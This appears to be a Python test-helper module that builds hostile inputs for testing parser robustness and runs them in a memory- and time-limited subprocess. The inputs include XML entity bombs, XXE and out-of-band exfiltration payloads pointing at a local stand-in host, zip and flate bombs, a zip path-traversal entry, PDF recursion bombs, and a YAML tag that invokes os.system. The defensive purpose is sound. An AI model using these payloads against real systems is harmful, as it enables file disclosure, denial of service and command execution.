"""Generators of hostile drafts and glossaries, built in memory by the tests (nothing big is
committed): XML entity bombs, zip bombs, hand-written PDFs, alias bombs, huge lines.

Also the bounded-subprocess runner the hostile tests use to assert time and memory limits.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
CORPUS = (REPO / ".." / "shared" / "corpus").resolve()
PY = sys.executable

# -- XML / FDX ---------------------------------------------------------------------------

FDX_BODY = (
    '<Content><Paragraph Type="Action"><Text>{text}</Text></Paragraph></Content>'
)


def fdx(body_text: str = "A quiet street.", *, doctype: str = "") -> bytes:
    """A minimal Final Draft file, optionally with a DOCTYPE before the root."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no" ?>\n'
        f"{doctype}"
        '<FinalDraft DocumentType="Script" Template="No" Version="1">'
        + FDX_BODY.format(text=body_text)
        + "</FinalDraft>"
    ).encode("utf-8")


def billion_laughs(levels: int = 10) -> bytes:
    """The classic entity-expansion bomb: 10 levels of 10x expansion (10^9 'lol')."""
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        ents.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    doctype = "<!DOCTYPE FinalDraft [\n" + "\n".join(ents) + "\n]>\n"
    return fdx(f"&lol{levels - 1};", doctype=doctype)


def xxe(target: str) -> bytes:
    """An external entity that would read ``target`` into the script text."""
    doctype = f'<!DOCTYPE FinalDraft [<!ENTITY xxe SYSTEM "file://{target}">]>\n'
    return fdx("&xxe;", doctype=doctype)


def external_dtd(url: str = "http://127.0.0.1:9/evil.dtd") -> bytes:
    """A DOCTYPE naming an external DTD (fetching it would leak or hang)."""
    return fdx("text", doctype=f'<!DOCTYPE FinalDraft SYSTEM "{url}">\n')


def parameter_entity(target: str) -> bytes:
    """A parameter-entity XXE (out-of-band exfiltration shape)."""
    doctype = (
        f'<!DOCTYPE FinalDraft [<!ENTITY % file SYSTEM "file://{target}">'
        '<!ENTITY % eval "<!ENTITY exfil SYSTEM \'http://127.0.0.1:9/?%file;\'>">%eval;]>\n'
    )
    return fdx("&exfil;", doctype=doctype)


def deep_xml(depth: int) -> bytes:
    """An FDX whose paragraph text sits ``depth`` elements deep."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><FinalDraft DocumentType="Script" Version="1">'
        "<Content>" + "<a>" * depth + "x" + "</a>" * depth + "</Content></FinalDraft>"
    ).encode()


# -- DOCX / ZIP --------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def document_xml(paragraphs: list[str], *, prolog: str = "") -> str:
    """A WordprocessingML body with one paragraph per string."""
    from xml.sax.saxutils import escape

    body = "".join(f"<w:p><w:r><w:t>{escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f"{prolog}<w:document xmlns:w=\"{W_NS}\"><w:body>{body}</w:body></w:document>"
    )


def docx(paragraphs: list[str] | None = None, *, extra: dict[str, bytes] | None = None,
         document: str | None = None) -> bytes:
    """A minimal valid DOCX (no python-docx needed), plus any ``extra`` entries."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("word/document.xml",
                    document or document_xml(paragraphs or ["INT. HOUSE - DAY", "A cat."]))
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb_entry(uncompressed: int = 64 * 1024 * 1024) -> bytes:
    """A DOCX with one entry of ``uncompressed`` zero bytes (deflates ~1000x)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("word/document.xml", document_xml(["hello"]))
        with zf.open("word/media/zeros.bin", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(uncompressed // len(chunk)):
                fh.write(chunk)
    return buf.getvalue()


def lying_zip(real_size: int = 64 * 1024 * 1024, claimed: int = 2000) -> bytes:
    """A DOCX whose document.xml header claims ``claimed`` bytes but inflates to ``real_size``.

    The archive directory looks harmless, so only a reader that bounds what it inflates
    (rather than trusting the header) stays safe.
    """
    import zlib

    payload = document_xml(["x"]).encode() + b" " * (real_size - 200)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = comp.compress(payload) + comp.flush()
    crc = zlib.crc32(payload)
    good = docx(["placeholder"])
    # Rebuild with the fake sizes by writing raw local headers ourselves.
    out = io.BytesIO()
    central = []
    with zipfile.ZipFile(io.BytesIO(good)) as src:
        for info in src.infolist():
            raw = src.read(info)
            if info.filename == "word/document.xml":
                body, size, csize, ccrc, method = data, claimed, len(data), crc, 8
            else:
                body, size, csize, ccrc, method = raw, len(raw), len(raw), zlib.crc32(raw), 0
            name = info.filename.encode()
            off = out.tell()
            out.write(b"PK\x03\x04" + _le(20, 2) + _le(0, 2) + _le(method, 2) + _le(0, 4)
                      + _le(ccrc, 4) + _le(csize, 4) + _le(size, 4) + _le(len(name), 2)
                      + _le(0, 2) + name + body)
            central.append(b"PK\x01\x02" + _le(20, 2) + _le(20, 2) + _le(0, 2) + _le(method, 2)
                           + _le(0, 4) + _le(ccrc, 4) + _le(csize, 4) + _le(size, 4)
                           + _le(len(name), 2) + _le(0, 2) * 3 + _le(0, 2) + _le(0, 4)
                           + _le(off, 4) + name)
    cd_off = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(b"PK\x05\x06" + _le(0, 2) * 2 + _le(len(central), 2) * 2 + _le(len(cd), 4)
              + _le(cd_off, 4) + _le(0, 2))
    return out.getvalue()


def _le(v: int, n: int) -> bytes:
    return int(v).to_bytes(n, "little")


def many_entries(n: int = 10_000) -> bytes:
    """A DOCX archive with ``n`` tiny entries."""
    extra = {f"word/media/f{i}.bin": b"x" for i in range(n)}
    return docx(["hello"], extra=extra)


def traversal_docx(name: str) -> bytes:
    """A DOCX with an entry named ``name`` (e.g. ``../../etc/cron.d/x``)."""
    buf = io.BytesIO(docx(["hello"]))
    with zipfile.ZipFile(buf, "a") as zf:
        info = zipfile.ZipInfo("placeholder")
        info.filename = name  # bypass ZipInfo's own sanitising of the name
        zf.writestr(info, b"owned")
    return buf.getvalue()


# -- PDF ---------------------------------------------------------------------------------


def pdf(pages: list[str], *, count: int | None = None, xref: bool = True,
        extra_trailer: str = "", raw_objects: dict[int, bytes] | None = None) -> bytes:
    """A hand-written PDF with one Courier text line per page.

    ``count`` overrides the page count the /Pages node claims; ``xref=False`` writes a
    wrong cross-reference table (every offset 0); ``raw_objects`` replaces objects.
    """
    objs: dict[int, bytes] = {}
    kids = []
    for i, text in enumerate(pages):
        pno = 4 + 2 * i
        kids.append(f"{pno} 0 R")
        esc = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        stream = f"BT /F1 12 Tf 72 700 Td ({esc}) Tj ET".encode("latin-1", "replace")
        objs[pno] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font"
                     f" << /F1 3 0 R >> >> /Contents {pno + 1} 0 R >>").encode()
        objs[pno + 1] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objs[2] = (f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count "
               f"{len(pages) if count is None else count} >>").encode()
    objs[3] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"
    objs.update(raw_objects or {})
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for n in sorted(objs):
        offsets[n] = len(out)
        out += f"{n} 0 obj\n".encode() + objs[n] + b"\nendobj\n"
    top = max(objs)
    start = len(out)
    out += f"xref\n0 {top + 1}\n0000000000 65535 f \n".encode()
    for n in range(1, top + 1):
        off = offsets.get(n, 0) if xref else 0
        out += f"{off:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {top + 1} /Root 1 0 R {extra_trailer}>>\nstartxref\n{start}\n"
            "%%EOF\n").encode()
    return bytes(out)


def encrypted_pdf(text: str = "Secret draft", password: str = "hunter2") -> bytes:
    """A PDF encrypted with a user password (pypdf's RC4, no extra dependency)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(pdf([text]))).pages:
        writer.add_page(page)
    writer.encrypt(user_password=password, owner_password=password + "-owner",
                   algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def flate_bomb_pdf(uncompressed: int = 256 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``uncompressed`` bytes of spaces."""
    import zlib

    comp = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    data = b"".join(comp.compress(chunk) for _ in range(uncompressed // len(chunk)))
    data += comp.flush()
    stream = (b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data)) + data + b"\nendstream"
    return pdf(["x"], raw_objects={5: stream})


def cyclic_pages_pdf() -> bytes:
    """A PDF whose page tree contains itself (a naive walker never ends)."""
    return pdf(["x"], raw_objects={2: b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 >>"})


def deep_array_pdf(depth: int = 100_000) -> bytes:
    """A PDF with an object nested ``depth`` arrays deep (recursion bomb)."""
    return pdf(["x"], raw_objects={9: b"[" * depth + b"]" * depth},
               extra_trailer="/Deep 9 0 R ")


# -- YAML glossaries ---------------------------------------------------------------------

PACK_HEAD = 'kind: market\nmarket: CN\nversion: "1"\n'


def alias_bomb(levels: int = 9) -> str:
    """The YAML 'billion laughs': each anchor is a list of ten aliases of the previous one."""
    lines = [PACK_HEAD + "a0: &a0 [lol]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    lines.append(f"entries: *a{levels - 1}")
    return "\n".join(lines) + "\n"


def python_tag(marker: Path) -> str:
    """A YAML that would create ``marker`` if a non-safe loader constructed it."""
    return (PACK_HEAD + "entries:\n  - !!python/object/apply:os.system "
            f"[\"touch {marker}\"]\n")


# -- bounded subprocess ------------------------------------------------------------------


@dataclass
class Bounded:
    """What a bounded child run did: its JSON result, seconds and peak memory."""

    result: dict
    seconds: float
    maxrss_mb: float
    returncode: int
    stderr: str


CHILD = textwrap.dedent(
    """
    import json, resource, sys, time
    limit = int(sys.argv[1])
    if limit:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    sys.path.insert(0, sys.argv[2])
    t0 = time.perf_counter()
    out = {}
    try:
        exec(compile(sys.stdin.read(), "<case>", "exec"), {"out": out})
        out.setdefault("outcome", "ok")
    except Exception as exc:  # the parent decides which types are acceptable
        from locreview.errors import LocreviewError
        out["outcome"] = "error"
        out["type"] = type(exc).__name__
        out["locreview_error"] = isinstance(exc, LocreviewError)
        out["message"] = str(exc)[:2000]
        out["msg"] = str(getattr(exc, "message", exc))[:2000]  # without the temp path
    out["seconds"] = time.perf_counter() - t0
    # VmHWM belongs to this exec'd image; ru_maxrss would include the forking parent's peak.
    try:
        with open("/proc/self/status") as fh:
            hwm = [ln for ln in fh if ln.startswith("VmHWM:")][0].split()[1]
        out["maxrss_mb"] = int(hwm) / 1024
    except (OSError, IndexError):
        out["maxrss_mb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print("@@RESULT@@" + json.dumps(out))
    """
)


def run_bounded(code: str, *, seconds: float, memory_mb: int = 2048,
                env: dict[str, str] | None = None) -> Bounded:
    """Run ``code`` in a fresh interpreter under an address-space limit and a wall clock.

    ``code`` sets keys of the dict ``out``; an exception it raises is reported (type,
    whether it is a LocreviewError, message). A run past ``seconds`` is killed and fails.
    """
    full_env = {**os.environ, **(env or {})}
    proc = subprocess.run(
        [PY, "-c", CHILD, str(memory_mb * 1024 * 1024), str(REPO)],
        input=code, capture_output=True, text=True, timeout=seconds + 30, env=full_env,
        cwd=str(REPO),
    )
    marker = [ln for ln in proc.stdout.splitlines() if ln.startswith("@@RESULT@@")]
    if not marker:
        raise AssertionError(
            f"child died (rc {proc.returncode}) without a result: {proc.stderr[-3000:]}"
        )
    res = json.loads(marker[-1][len("@@RESULT@@"):])
    return Bounded(res, float(res["seconds"]), float(res["maxrss_mb"]), proc.returncode,
                   proc.stderr)
